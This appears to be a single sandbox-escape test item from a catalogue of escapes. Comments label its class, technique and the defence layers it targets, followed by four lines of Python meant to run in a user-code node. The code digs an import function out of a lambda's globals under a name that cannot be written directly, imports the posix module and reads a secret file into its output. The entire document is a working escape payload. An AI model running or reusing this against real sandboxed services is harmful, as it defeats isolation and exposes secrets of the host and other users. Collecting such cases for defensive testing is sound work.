# class: guards as gadgets
# technique: the import functions under the names that no text can write
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
names = (lambda: 0).__globals__
reached = [names[name] for name in names if name[:1] == "."][0]("posix")
return [{"json": {"reached": reached.read(reached.open(host["secret"], 0), 4096).decode()}}]
